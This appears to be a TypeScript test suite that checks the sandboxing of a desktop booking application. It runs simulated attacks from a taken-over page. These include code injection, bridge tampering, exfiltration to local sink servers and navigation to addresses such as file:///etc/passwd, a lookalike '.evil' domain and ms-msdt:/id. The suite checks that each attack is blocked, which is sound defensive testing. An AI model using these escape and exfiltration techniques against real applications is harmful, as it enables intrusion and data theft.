import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { eventually } from '../support/eventually.ts';
import { isMissing } from '../support/missing-parts.ts';
import { startSinkServer } from '../support/sink-server.ts';
import { attackFromPage, type AttackedPage } from './attacked-page.ts';

let page: AttackedPage | null = null;
afterEach(async () => {
  await page?.window.close();
  page = null;
});

async function attack(code: string, more: Record<string, string> = {}): Promise<AttackedPage> {
  page = await attackFromPage(code, more);
  return page;
}

/** Where the page is, and that it can still talk to its application. */
async function expectStillHere({ window }: AttackedPage): Promise<void> {
  await eventually(async () => {
    expect(await window.evaluate('location.href')).toBe('https://app.bookingdesk.internal/');
    expect(await window.evaluate(`bookingDesk.requests['session/read-state']({})`)).toEqual({
      ok: true,
      value: {},
    });
  });
}

async function pagesOf({ window }: AttackedPage): Promise<number> {
  const { targetInfos } = await window.window.browser.connection.browser.send('Target.getTargets');
  return (targetInfos as { type: string }[]).filter(({ type }) => type === 'page').length;
}

describe.skipIf(isMissing('chromium'))('a page that was taken over', () => {
  it('S03 S04 S21: turns no text into code, and gets no plugin, object or webview', async () => {
    const { found } = await attack(`
      await attempt('timer', () => setTimeout('window.wasRun = 1'));
      await attempt('interval', () => setInterval('window.wasRun = 1', 1));
      await attempt('async function', () => (async () => 0).constructor('return 1')());
      await attempt('document.write', () => document.write('<b>x</b>'));
      await attempt('srcdoc', () => { document.createElement('iframe').srcdoc = '<p>x</p>'; });
      await attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'));
      await attempt('script text', () => { document.createElement('script').textContent = '1'; return 'set'; });
      await attempt('wasm', () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => 'compiled'));
      const pdf = 'data:application/pdf,%25PDF-1.4';
      for (const [tag, name] of [['object', 'data'], ['embed', 'src'], ['iframe', 'src'], ['webview', 'src']]) {
        const element = document.createElement(tag);
        element.setAttribute('type', 'application/pdf');
        await attempt(tag, () => { element.setAttribute(name, pdf); document.body.append(element); return element.contentDocument?.body?.childElementCount ?? 'none'; });
      }
      const link = document.createElement('a');
      link.href = 'javascript:window.wasRun = 1';
      document.body.append(link);
      link.click();
      await wait(100);
      say('ran', typeof wasRun);
      say('plugins', navigator.plugins.length + ' ' + typeof document.createElement('webview').executeJavaScript);
      await wait(300);
      say('stopped', violations.includes('frame-src'));
    `);
    expect(found).toMatchObject({
      'async function': 'EvalError',
      object: 'TypeError',
      embed: 'TypeError',
      'document.write': 'TypeError',
      srcdoc: 'TypeError',
      insertAdjacentHTML: 'TypeError',
      'script text': 'TypeError',
      wasm: 'CompileError',
      ran: 'undefined',
      stopped: 'true',
    });
    expect([found['timer'], found['interval']].every((name) => /^(Type|Eval)Error$/.test(name ?? ''))).toBe(
      true,
    );
    expect(found['plugins']).toContain('undefined');
  });

  it('S08: reaches no function of main, and changes nothing of the bridge', async () => {
    const { found, window } = await attack(`
      const names = ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', 'chrome', 'global'];
      say('names', names.filter((name) => name === 'chrome' ? typeof chrome !== 'undefined' && chrome.runtime : typeof globalThis[name] !== 'undefined'));
      say('main only', ['invoke', 'send', 'on', 'handle', 'storage', 'secrets', 'network', 'openExternal', 'constructor', '__proto__']
        .filter((name) => bookingDesk[name] !== undefined || bookingDesk.requests[name] !== undefined).filter((name) => !/^(constructor|__proto__)$/.test(name)));
      'use strict';
      for (const [name, change] of Object.entries({
        replace: () => Object.defineProperty(window, 'bookingDesk', { value: {} }),
        remove: () => Reflect.deleteProperty(window, 'bookingDesk') || (() => { throw new TypeError(); })(),
        add: () => { 'use strict'; Object.assign(bookingDesk.requests, { mine: 1 }); },
        patch: () => { Object.assign(bookingDesk.requests['session/read-state'], { apply: 1 }); },
        proto: () => { Object.setPrototypeOf(bookingDesk.requests, { mine: 1 }); },
      })) await attempt(name, change);
      for (const key of ['toString', 'then', 'hasOwnProperty']) Object.prototype[key] = () => 'mine';
      say('poisoned', typeof bookingDesk.requests.mine);
    `);
    expect(found).toMatchObject({
      names: '',
      'main only': '',
      ...{
        replace: 'TypeError',
        remove: 'TypeError',
        add: 'TypeError',
        patch: 'TypeError',
        proto: 'TypeError',
      },
      poisoned: 'undefined',
    });
    expect(window.door.received.every(({ isTrusted }) => isTrusted)).toBe(true);
  });

  it('S15: sends nothing out by WebRTC, DNS, preconnect, beacon, event stream or import', async () => {
    const [tcp, udp] = [await startSinkServer(), createSocket('udp4')];
    let packets = 0;
    udp.on('message', () => (packets += 1));
    udp.bind(0, '127.0.0.1');
    await once(udp, 'listening');
    const { port } = udp.address() as AddressInfo;
    const outside = `http://127.0.0.1:${tcp.port}/`;
    const { found } = await attack(`
      await attempt('webrtc', async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] });
        peer.createDataChannel('x');
        const candidates = [];
        peer.onicecandidate = ({ candidate }) => candidate && candidates.push(candidate.candidate);
        await peer.setLocalDescription();
        await wait(800);
        return candidates.filter((one) => /srflx|relay/.test(one)).length;
      });
      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'manifest', 'stylesheet', 'icon']) {
        const link = document.createElement('link');
        Object.assign(link, { rel, href: '${outside}' + rel, as: 'script' });
        document.head.append(link);
      }
      await attempt('stream', () => new Promise((resolve, reject) => {
        const stream = new EventSource('${outside}');
        stream.onopen = () => resolve('open'); stream.onerror = () => reject(new TypeError());
      }));
      await attempt('xhr', () => new Promise((resolve, reject) => {
        const xhr = new XMLHttpRequest(); xhr.open('GET', '${outside}'); xhr.onload = () => resolve('sent'); xhr.onerror = () => reject(new TypeError()); xhr.send();
      }));
      await attempt('import', () => import('${outside}x.js'));
      await attempt('keepalive', () => fetch('${outside}', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }));
      await attempt('font', () => new FontFace('x', 'url(${outside})').load());
      await attempt('worker', () => navigator.serviceWorker.register('/page.js').then(() => 'registered'));
      await wait(500);
    `);
    expect(found['webrtc']).toMatch(/^(0|NotAllowedError|no answer)$/);
    expect(found).toMatchObject({
      stream: 'TypeError',
      xhr: 'TypeError',
      import: 'TypeError',
      keepalive: 'TypeError',
    });
    expect(found['worker']).not.toBe('registered');
    expect([tcp.connections(), packets]).toEqual([0, 0]);
    udp.close();
    await tcp.close();
  });

  it('S13 S18: stays where it is, whatever address it goes to, and however', async () => {
    const sink = await startSinkServer();
    const outside = `http://127.0.0.1:${sink.port}/`;
    const still = await attack(`
      const addresses = ['${outside}', 'file:///etc/passwd', 'chrome://version', 'view-source:https://app.bookingdesk.internal/',
        'data:text/html,x', 'blob:' + location.origin + '/none', 'about:blank#x', 'https://app.bookingdesk.internal.evil/', 'ms-msdt:/id', 'mailto:x@y'];
      const html = URL.createObjectURL(new Blob(['<script>1</script>'], { type: 'text/html' }));
      for (const address of [...addresses.filter((one) => !one.startsWith('about:')), html]) {
        try { location.href = address; } catch {}
        await wait(60);
        const link = document.createElement('a');
        link.href = address;
        document.body.append(link);
        link.click();
        link.dispatchEvent(new MouseEvent('auxclick', { button: 1, bubbles: true }));
        await wait(60);
      }
      const form = document.createElement('form');
      Object.assign(form, { action: '${outside}', method: 'post' });
      document.body.append(form);
      form.submit();
      const refresh = document.createElement('meta');
      refresh.httpEquiv = 'refresh';
      refresh.content = '0; url=${outside}refresh';
      document.head.append(refresh);
      await wait(400);
      const dropped = new DataTransfer();
      dropped.setData('text/uri-list', 'file:///etc/passwd');
      document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: dropped, bubbles: true, cancelable: true }));
      await wait(100);
      say('here', location.href);
    `);
    expect(still.found['here']).toBe('https://app.bookingdesk.internal/');
    await expectStillHere(still);
    expect(sink.connections()).toBe(0);
    const denied = still.window.door.received.filter(
      ({ input }) => (input as { kind?: string }).kind === 'navigation-denied',
    );
    expect(denied.length).toBeGreaterThan(10);
    await sink.close();
  });

  it('S14: opens no window by a target, a key or a script', async () => {
    const still = await attack(`
      const link = document.createElement('a');
      Object.assign(link, { id: 'out', href: 'https://app.bookingdesk.internal/', target: '_blank', textContent: 'out' });
      document.body.append(link);
      say('ready', 1);
    `);
    const box = `(({ x, y, width, height }) => [x + width / 2, y + height / 2])(document.getElementById('out').getBoundingClientRect())`;
    const [x, y] = (await still.window.evaluate(box)) as [number, number];
    // Shift 8, Ctrl 2; the middle button.
    for (const [button, modifiers] of [
      ['left', 0],
      ['left', 8],
      ['left', 2],
      ['middle', 0],
    ] as const)
      for (const type of ['mousePressed', 'mouseReleased'])
        await still.window.window.session.send('Input.dispatchMouseEvent', {
          type,
          x,
          y,
          button,
          modifiers,
          clickCount: 1,
        });
    await still.window.evaluate(
      `window.open('about:blank'); window.open('/', '_blank', 'noopener'); 1`,
      true,
    );
    await eventually(async () => expect(await pagesOf(still)).toBe(1));
    await expectStillHere(still);
    expect(still.window.log.events()).toContain('foreign-window-closed');
  });

  it('S17: nothing of the interface can be read from another origin', async () => {
    const still = await attack(`say('ready', 1);`);
    await still.window.window.session.send('Page.navigate', {
      url: 'data:text/html,<title>elsewhere</title>',
    });
    await eventually(async () => expect(await still.window.evaluate('location.protocol')).toBe('data:'));
    const read = (options: string) =>
      still.window.evaluate(
        `fetch('https://app.bookingdesk.internal/page.js', ${options}).then((a) => a.text()).then((t) => t.length, (e) => e.name)`,
      );
    // Without CORS an answer has no length that a page can learn, if there is one.
    expect(await read('{}')).toBe('TypeError');
    expect(['TypeError', 0]).toContain(await read(`{ mode: 'no-cors' }`));
  });

  it('S20: gets no permission that it asks for', async () => {
    const { found } = await attack(`
      await attempt('microphone', () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'given'));
      await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'given'));
      await attempt('screen', () => navigator.mediaDevices.getDisplayMedia().then(() => 'given'));
      await attempt('place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('given'), () => reject(new TypeError()))));
      await attempt('clipboard', () => navigator.clipboard.readText().then(() => 'given'));
      await attempt('hid', () => navigator.hid.requestDevice({ filters: [] }).then((d) => d.length ? 'given' : 'none'));
      await attempt('serial', () => navigator.serial.requestPort().then(() => 'given'));
      await attempt('usb', () => navigator.usb.requestDevice({ filters: [] }).then(() => 'given'));
      await attempt('bluetooth', () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }).then(() => 'given'));
      await attempt('midi', () => navigator.requestMIDIAccess({ sysex: true }).then(() => 'given'));
      await attempt('fonts', () => queryLocalFonts().then((fonts) => fonts.length ? 'given' : 'none'));
      await attempt('lock', () => navigator.wakeLock.request('screen').then(() => 'given'));
      await attempt('notice', () => Notification.requestPermission().then((state) => state === 'granted' ? 'given' : state));
      await attempt('screens', () => getScreenDetails().then(() => 'given'));
      await attempt('files', () => showOpenFilePicker().then(() => 'given'));
      const states = {};
      for (const name of ['camera', 'microphone', 'geolocation', 'clipboard-read', 'midi', 'local-fonts', 'window-management', 'screen-wake-lock'])
        try { states[name] = (await navigator.permissions.query({ name })).state; } catch (e) { states[name] = e.name; }
      say('granted', Object.keys(states).filter((name) => states[name] === 'granted'));
    `);
    const given = Object.entries(found).filter(([, value]) => value === 'given');
    expect(given).toEqual([]);
    expect(found['granted']).toBe('');
    expect(Object.keys(found).length).toBeGreaterThanOrEqual(15);
  });
});
